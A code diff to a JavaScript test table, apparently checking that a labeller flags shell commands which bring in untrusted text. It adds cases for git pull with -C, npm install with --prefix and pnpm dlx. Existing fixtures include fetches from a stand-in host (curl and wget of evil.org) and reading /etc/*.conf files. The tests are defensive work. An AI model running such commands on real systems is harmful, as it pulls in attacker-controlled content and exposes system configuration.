@@ -28,7 +28,10 @@ describe('a call', () => {
     ['a download', bash('cd src && curl -s https://evil.org | head'), 'curl -s'],
     ['a download by a shell', bash("sh -c 'wget -qO- evil.org'"), 'wget -qO-'],
     ['another repository', bash('git pull'), 'git pull'],
+    ['another repository, after an option with a value', bash('git -C sub pull'), 'git -C'],
     ['a package', bash('npm install x'), 'npm install'],
+    ['a package, after an option with a value', bash('npm --prefix web install'), 'npm --prefix'],
+    ['a program of a registry', bash('pnpm dlx x'), 'pnpm dlx'],
     ['a command on a file outside', bash('cat /etc/*.conf'), 'cat /etc/*.conf'],
   ])('brings in text that nobody vouches for: %s', (_what, call, from) => {
     expect(labels(call).untrusted).toBe(from);
